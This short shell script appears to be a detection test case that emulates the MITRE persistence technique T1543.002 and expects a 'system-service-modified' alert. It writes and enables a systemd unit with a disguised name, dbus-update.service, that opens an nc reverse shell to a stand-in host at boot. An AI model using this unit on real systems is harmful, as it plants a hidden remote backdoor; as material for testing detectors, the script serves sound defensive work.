# category: persistence
# technique: T1543.002
# art: yes
# expect: system-service-modified
# image: debian
# desc: a systemd service is written and enabled by hand (Atomic's Create Systemd Service)
mkdir -p /etc/systemd/system/multi-user.target.wants
cat > /etc/systemd/system/dbus-update.service <<'UNIT'
[Service]
ExecStart=/bin/sh -c 'nc 192.0.2.2 4444 -e /bin/sh'
[Install]
WantedBy=multi-user.target
UNIT
ln -sf /etc/systemd/system/dbus-update.service /etc/systemd/system/multi-user.target.wants/dbus-update.service
